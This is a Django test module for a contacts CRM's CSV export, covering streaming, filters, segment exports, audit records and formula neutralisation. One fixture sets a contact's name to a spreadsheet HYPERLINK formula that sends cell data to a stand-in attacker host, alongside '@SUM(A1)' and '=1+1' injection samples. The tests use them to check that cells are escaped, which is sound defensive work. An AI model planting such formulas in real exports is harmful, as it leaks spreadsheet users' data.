"""CSV export: the list as filtered and a segment's members, streamed, formula-safe and audited."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from hypothesis import given, settings as hsettings, strategies as st
from hypothesis.extra.django import TestCase as HypothesisTestCase

from contacts.models import Contact, ContactField, StaffChange
from contacts.selectors.export import export_columns, export_rows
from contacts.services.fields import field_value_text
from contacts.spreadsheet import cell_neutralise
from contacts.services import channel_unsubscribe, contact_fields_update, segment_membership_add, \
    segment_membership_remove

from .factories import ContactFactory, ContactFieldFactory, SegmentFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def viewer_client(db):
    user = UserFactory(username="victor")
    user.groups.add(Group.objects.get(name="Viewers"))
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def people(db, email):
    ContactFieldFactory(key="company", label="Company")
    ContactFieldFactory(key="vip", label="VIP", type="boolean")
    ada = ContactFactory(first_name="Ada", email="ada@example.com", phone="+33612345678")
    eve = ContactFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"x")', email="eve@example.com", phone="")
    contact_fields_update(contact=ada, values={"company": "-5", "vip": "yes"}, source="staff:a")
    contact_fields_update(contact=eve, values={"company": "@SUM(A1)"}, source="staff:a")
    channel_unsubscribe(contact=eve, channel=email, source="public_page")
    return ada, eve


def download(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_export_streams_the_chosen_columns_with_channel_states_and_fields(viewer_client, people):
    ada, eve = people
    response = viewer_client.get(reverse("contacts:contact_export"), {
        "columns": ["id", "first_name", "phone", "channel:email", "channel:sms", "company", "vip"]})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="contacts-')
    rows = download(response)
    assert rows == [
        ["id", "first_name", "phone", "channel:email", "channel:sms", "company", "vip"],
        [str(ada.pk), "Ada", "+33612345678", "contactable", "contactable", "-5", "yes"],
        [str(eve.pk), "'" + eve.first_name, "", "unsubscribed", "no_address", "'@SUM(A1)", ""],
    ]


def test_the_export_applies_the_list_filters(viewer_client, people):
    response = viewer_client.get(reverse("contacts:contact_export"), {
        "columns": ["email"], "ff": "vip", "fo": "eq", "fv": "yes", "dnc_reason": "none"})
    assert download(response) == [["email"], ["ada@example.com"]]


def test_the_export_of_a_segment_holds_its_current_members_only(viewer_client, people):
    ada, eve = people
    segment = SegmentFactory()
    segment_membership_add(contact=ada, segment=segment, source="staff:a")
    segment_membership_add(contact=eve, segment=segment, source="staff:a")
    segment_membership_remove(contact=eve, segment=segment, source="staff:a")
    response = viewer_client.get(reverse("contacts:segment_export", args=[segment.pk]), {"columns": ["email"]})
    assert download(response) == [["email"], ["ada@example.com"]]
    row = StaffChange.objects.get(action="exported")
    assert (row.subject_type, row.subject_id, row.actor) == ("segment", segment.pk, "victor")


def test_an_export_is_recorded_with_who_the_filters_and_the_columns(viewer_client, people):
    response = viewer_client.get(reverse("contacts:contact_export"), {"columns": ["email", "company"], "q": "ada"})
    download(response)
    row = StaffChange.objects.get(action="exported")
    assert (row.actor, row.subject_type, row.changes) == (
        "victor", "contact_export", {"filters": [None, {"q": "ada"}], "columns": [None, ["email", "company"]]})


def test_without_columns_the_page_asks_for_them_and_keeps_the_filters(viewer_client, people):
    response = viewer_client.get(reverse("contacts:contact_export"), {"q": "ada", "ff": "vip", "fo": "eq", "fv": "yes"})
    content = response.content.decode()
    assert response.status_code == 200 and not isinstance(response, StreamingHttpResponse)
    assert '<input type="hidden" name="ff" value="vip">' in content and 'value="channel:email"' in content
    assert not StaffChange.objects.filter(action="exported").exists()


def test_unknown_columns_are_a_message_not_a_file(viewer_client, people):
    response = viewer_client.get(reverse("contacts:contact_export"), {"columns": ["password"]})
    assert response.status_code == 200 and "password is not one of the available choices" in response.content.decode()


def test_the_list_and_the_segment_page_link_to_their_export(viewer_client, people):
    segment = SegmentFactory()
    assert 'id="export-link" href="/contacts/export/?q=ada"' in viewer_client.get(
        reverse("contacts:contact_list"), {"q": "ada"}).content.decode()
    assert reverse("contacts:segment_export", args=[segment.pk]) in viewer_client.get(
        reverse("contacts:segment_detail", args=[segment.pk])).content.decode()


def test_the_export_reads_rows_through_a_server_side_cursor_while_it_streams(viewer_client, people, monkeypatch):
    from django.db import connection

    from contacts.selectors import export

    monkeypatch.setattr(export, "ROWS_PER_WRITE", 1)
    monkeypatch.setattr(export, "CHUNK_SIZE", 1)
    response = viewer_client.get(reverse("contacts:contact_export"), {"columns": ["email", "company"]})
    chunks = iter(response.streaming_content)
    next(chunks)  # the byte order mark: nothing read yet
    assert next(chunks).decode() == "email,company\r\n"
    assert next(chunks).decode() == "ada@example.com,-5\r\n"
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors WHERE name LIKE '_django_curs_%%'")
        assert cursor.fetchone() == (1,)  # the rows come from a named cursor, not a list in memory
    list(chunks)


class TestExportText(HypothesisTestCase):
    """The export reads field values as text from PostgreSQL; it must say what ``field_value_text`` says."""

    @hsettings(max_examples=60, deadline=None)
    @given(st.one_of(
        st.tuples(st.just("number"), st.integers(-(2**53) + 1, 2**53 - 1)),
        st.tuples(st.just("number"), st.floats(-1e15, 1e15, allow_nan=False, allow_infinity=False)),
        st.tuples(st.just("number"), st.floats(-1, 1, allow_nan=False).filter(lambda f: 0 < abs(f) < 1e-4)),
        st.tuples(st.just("boolean"), st.booleans()),
        st.tuples(st.just("text"), st.sampled_from(["true", "false", "Acme", "-5", "=1+1"])),
        st.tuples(st.just("date"), st.dates().map(lambda d: d.isoformat())),
    ))
    def test_export_agrees_with_field_value_text(self, case):
        kind, raw = case
        key = f"f_{kind}"
        field, _ = ContactField.objects.get_or_create(key=key, defaults={"label": key, "type": kind})
        contact = ContactFactory()
        stored = contact_fields_update(contact=contact, values={key: raw}, source="system")[key][1]
        column = next(c for c in export_columns() if c.header == key)
        (_header, (cell,)) = list(export_rows(Contact.objects.filter(pk=contact.pk), [column]))
        assert cell == cell_neutralise(field_value_text(stored))
